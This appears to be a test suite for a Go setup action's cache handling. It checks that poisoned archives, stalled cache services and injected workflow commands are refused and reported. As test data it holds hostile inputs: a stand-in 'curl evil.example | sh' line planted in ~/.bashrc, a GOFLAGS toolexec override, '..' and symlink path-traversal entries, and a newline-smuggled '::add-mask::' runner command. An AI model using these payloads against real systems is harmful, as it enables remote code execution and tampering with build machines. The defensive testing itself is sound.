// Issue 13 on the cache side, end to end through the bundles: poisoned entries (class 2), a cache
// service that stalls (class 5), warnings that name the cache and the cause (class 7), and a
// hostile matched key that must not become a runner command (class 6).
import { describe, test, before, after, beforeEach } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, linkSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync, chmodSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { StepResult } from '../harness/runner';
import { Machine, warnings } from './helpers';
import { poisonArchive, type HostileEntry } from './poison';

const MOD_PREFIX = 'setup-go-golden-mod-';
const BUILD_PREFIX = 'setup-go-golden-build-';
/** A module the saved entry holds: its absence after a refused restore shows nothing of the archive was kept. */
const SAVED_MODULE = 'golang.org/x/text@v0.43.0';
/** Short deadlines keep the stalling cases quick; a step that still hangs is killed at STEP_LIMIT_MS. */
const SHORT_DEADLINES = { SETUP_GO_GOLDEN_CACHE_TIMEOUT: '2', SETUP_GO_GOLDEN_CACHE_MIN_RATE: '8192' };
const STEP_LIMIT_MS = 60_000;

/** A machine whose cache service holds a module and a build cache entry saved by a real job. */
async function seededMachine(): Promise<Machine> {
  const machine = await Machine.start();
  const job = await machine.job();
  const setup = await machine.runSetup(job);
  assert.equal(setup.code, 0, setup.stdout);
  for (const args of [
    ['mod', 'download'],
    ['env', '-json'],
  ])
    assert.equal((await job.run('go', args)).code, 0);
  const [post] = await job.runPosts();
  assert.equal(post!.code, 0, post!.stdout);
  assert.equal(machine.server.listEntries().length, 2, post!.stdout);
  job.cleanup();
  return machine;
}

function storedBlob(machine: Machine, prefix: string): string {
  const key = machine.server.listEntries().find((entry) => entry.key.startsWith(prefix))!.key;
  return machine.server.blobPath(key)!;
}

/** Names other than the cache folder itself beside it: staging left behind. */
function strayBeside(dir: string): string[] {
  const parent = dirname(dir);
  return existsSync(parent) ? readdirSync(parent).filter((name) => name !== dir.slice(parent.length + 1)) : [];
}

function file(content: string, mode = 0o644) {
  return (path: string) => {
    writeFileSync(path, content);
    chmodSync(path, mode);
  };
}

/** A job's setup step while the cache service misbehaves; it must end (within STEP_LIMIT_MS) and succeed. */
async function setupUnder(machine: Machine, faults: Machine['server']['faults'], env: Record<string, string> = {}): Promise<StepResult> {
  machine.server.faults = faults;
  try {
    const job = await machine.job({ env });
    const setup = await machine.runSetup(job, {}, STEP_LIMIT_MS);
    assert.equal(setup.code, 0, `the setup step hung or failed:\n${setup.stdout}`);
    return setup;
  } finally {
    machine.server.faults = {};
  }
}

describe('poisoned cache entries: a warning and a miss, nothing written anywhere', () => {
  let machine: Machine;
  const originals = new Map<string, Buffer>();
  let goSum: Buffer;
  before(async () => {
    machine = await seededMachine();
    for (const prefix of [MOD_PREFIX, BUILD_PREFIX]) originals.set(prefix, readFileSync(storedBlob(machine, prefix)));
    goSum = readFileSync(join(machine.workspace, 'go.sum'));
  });
  after(async () => machine.close());
  beforeEach(() => {
    for (const [prefix, bytes] of originals) writeFileSync(storedBlob(machine, prefix), bytes);
    writeFileSync(join(machine.workspace, 'go.sum'), goSum);
  });

  /**
   * Poisons the module cache entry (or the build cache one), runs a job's setup and checks what
   * every case shares: the job goes on, that cache misses with a warning naming it and the rule,
   * and neither the cache folder nor its surroundings keep anything of the archive.
   */
  async function restorePoisoned(batches: HostileEntry[][], rule: RegExp, kind: 'mod' | 'build' = 'mod'): Promise<StepResult> {
    poisonArchive(storedBlob(machine, kind === 'mod' ? MOD_PREFIX : BUILD_PREFIX), batches);
    const job = await machine.job();
    const setup = await machine.runSetup(job);
    assert.equal(setup.code, 0, setup.stdout);
    const label = kind === 'mod' ? 'module cache' : 'build cache';
    assert.equal(setup.outputs[kind === 'mod' ? 'cache-mod-hit' : 'cache-build-hit'], 'false', setup.stdout);
    const warned = warnings(setup).filter((message) => message.includes(label));
    assert.ok(
      warned.some((message) => rule.test(message)),
      `no ${label} warning matching ${rule}:\n${warned.join('\n')}\n${setup.stdout}`,
    );
    const dir = kind === 'mod' ? machine.modcache : machine.gocache;
    if (kind === 'mod')
      assert.equal(existsSync(join(machine.modcache, SAVED_MODULE)), false, 'the entries before the hostile one were removed');
    else assert.equal(existsSync(join(dir, 'README')), false, 'the entries before the hostile one were removed');
    assert.deepEqual(strayBeside(dir), [], 'no staging left beside the cache');
    assert.deepEqual(readFileSync(join(machine.workspace, 'go.sum')), goSum, 'the workspace go.sum is untouched');
    // The job goes on without the cache.
    const download = await job.run('go', ['mod', 'download']);
    assert.equal(download.code, 0, download.stderr);
    return setup;
  }

  test('an absolute path (~/.bashrc)', async () => {
    const bashrc = join(machine.home, '.bashrc');
    await restorePoisoned([[{ name: bashrc, make: file('curl evil.example | sh\n') }]], /absolute path/);
    assert.equal(existsSync(bashrc), false);
  });

  test('a `..` path out of the module cache (the workspace go.sum)', async () => {
    await restorePoisoned(
      [[{ name: '../home/go/pkg/mod/../../../workspace/go.sum', make: file('poisoned go.sum\n') }]],
      /outside the module cache|'\.\.'/,
    );
  });

  test('~/.config/go/env setting GOFLAGS=-toolexec', async () => {
    const goEnv = join(machine.home, '.config/go/env');
    await restorePoisoned([[{ name: '../home/.config/go/env', make: file('GOFLAGS=-toolexec=/tmp/evil\n') }]], /outside the module cache/);
    assert.equal(existsSync(goEnv), false);
  });

  test('a symlink out of the cache, then a file through it', async () => {
    await restorePoisoned(
      [
        [{ name: '../home/go/pkg/mod/escape', make: (path) => symlinkSync('../../../../workspace', path) }],
        [{ name: '../home/go/pkg/mod/escape/go.sum', make: file('poisoned through a symlink\n') }],
      ],
      /symlink/,
    );
  });

  test('a hard link to a file outside the cache', async () => {
    await restorePoisoned(
      [
        [
          { name: '../workspace/go.sum', make: file('target\n'), drop: true },
          { name: '../home/go/pkg/mod/cache/download/linked', make: (path) => linkSync(path.replace(/m1$/, 'm0'), path) },
        ],
      ],
      /hard link/,
    );
    assert.equal(statSync(join(machine.workspace, 'go.sum')).nlink, 1, 'no hard link to the workspace go.sum');
  });

  test('a device node inside the module cache (made as root)', async () => {
    assert.equal(process.getuid?.(), 0, 'making a device node to archive needs root (CI runs as root)');
    await restorePoisoned(
      [[{ name: '../home/go/pkg/mod/cache/download/null', make: (path) => execFileSync('mknod', [path, 'c', '1', '3']) }]],
      /device|neither a file/,
    );
    assert.equal(existsSync(join(machine.modcache, 'cache/download/null')), false);
  });

  test('a setuid file inside the module cache', async () => {
    await restorePoisoned([[{ name: '../home/go/pkg/mod/cache/download/suid', make: file('#!/bin/sh\n', 0o4755) }]], /setuid/);
    assert.equal(existsSync(join(machine.modcache, 'cache/download/suid')), false);
  });

  test('a build cache entry writing into the module cache', async () => {
    const planted = join(machine.modcache, 'cache/download/evil.example/@v/list');
    await restorePoisoned(
      [[{ name: '../home/go/pkg/mod/cache/download/evil.example/@v/list', make: file('v1.0.0\n') }]],
      /outside the build cache/,
      'build',
    );
    assert.equal(existsSync(planted), false);
  });
});

describe('a cache service that stalls: a warning and a miss (or no save) within the deadline', () => {
  let machine: Machine;
  before(async () => {
    machine = await seededMachine();
  });
  after(async () => machine.close());

  async function stalledSetup(faults: Machine['server']['faults']): Promise<StepResult> {
    const setup = await setupUnder(machine, faults, SHORT_DEADLINES);
    assert.deepEqual([setup.outputs['cache-mod-hit'], setup.outputs['cache-build-hit']], ['false', 'false']);
    return setup;
  }

  test('a lookup that is never answered', async () => {
    const setup = await stalledSetup({ silentRpcs: ['GetCacheEntryDownloadURL'] });
    for (const label of ['module cache', 'build cache']) {
      assert.ok(
        warnings(setup).some((message) => message.includes(label) && /did not answer the lookup of .* within 2 s/.test(message)),
        setup.stdout,
      );
    }
  });

  for (const fault of ['silent', 'trickle'] as const) {
    test(`a download that ${fault === 'silent' ? 'never sends headers' : 'trickles a byte a second'}`, async () => {
      const setup = await stalledSetup({ download: fault });
      for (const label of ['module cache', 'build cache']) {
        assert.ok(
          warnings(setup).some((message) => message.includes(label) && /the download of .* was too slow: \d+ bytes in/.test(message)),
          setup.stdout,
        );
      }
      assert.equal(existsSync(join(machine.modcache, SAVED_MODULE)), false);
    });
  }

  const saveStalls: [string, Machine['server']['faults']][] = [
    ['a create-entry that is never answered', { silentRpcs: ['CreateCacheEntry'] }],
    ['an upload that is never answered', { silentUploads: true }],
  ];
  for (const [name, faults] of saveStalls) {
    test(`saving: ${name}`, async () => {
      const job = await machine.job({ env: SHORT_DEADLINES });
      const setup = await machine.runSetup(job, { 'cache-key-suffix': name.replace(/\W+/g, '-') });
      assert.equal(setup.code, 0, setup.stdout);
      assert.equal((await job.run('go', ['mod', 'download'])).code, 0);
      machine.server.faults = faults;
      try {
        const [post] = await job.runPosts(STEP_LIMIT_MS);
        assert.equal(post!.code, 0, `the post step hung or failed:\n${post!.stdout}`);
        assert.ok(
          warnings(post!).some((message) => /module cache was not saved .*did not finish within/.test(message)),
          post!.stdout,
        );
      } finally {
        machine.server.faults = {};
      }
    });
  }
});

describe('cache warnings say which cache and why; the service cannot inject runner commands', () => {
  let machine: Machine;
  before(async () => {
    machine = await seededMachine();
  });
  after(async () => machine.close());

  const setupWith = (faults: Machine['server']['faults']) => setupUnder(machine, faults);

  test('a corrupt archive: each cache names itself and says the archive is not zstd', async () => {
    const setup = await setupWith({ corruptBlobs: true });
    for (const label of ['module cache', 'build cache']) {
      assert.ok(
        warnings(setup).some((message) => message.startsWith(`${label} not restored`) && /not a valid zstd archive/.test(message)),
        setup.stdout,
      );
    }
  });

  test('a download cut halfway: each cache names itself and says the connection closed early', async () => {
    const setup = await setupWith({ download: 'truncate' });
    for (const label of ['module cache', 'build cache']) {
      assert.ok(
        warnings(setup).some(
          (message) => message.startsWith(`${label} not restored`) && /closed before the whole archive arrived/.test(message),
        ),
        setup.stdout,
      );
    }
  });

  test('a matched key with a newline does not become a runner command', async () => {
    const setup = await setupWith({ matchedKeySuffix: '\n::warning::injected by the cache service\r\n::add-mask::x' });
    assert.deepEqual(
      setup.annotations.filter((annotation) => /injected/.test(annotation.message)),
      [],
      setup.stdout,
    );
    // The library masks the signed URLs' signatures ('read'); nothing the key carried is a mask.
    assert.equal(setup.masks.includes('x'), false, setup.masks.join(', '));
    assert.doesNotMatch(setup.stdout, /^::(warning|add-mask)::(injected|x)/m);
  });
});
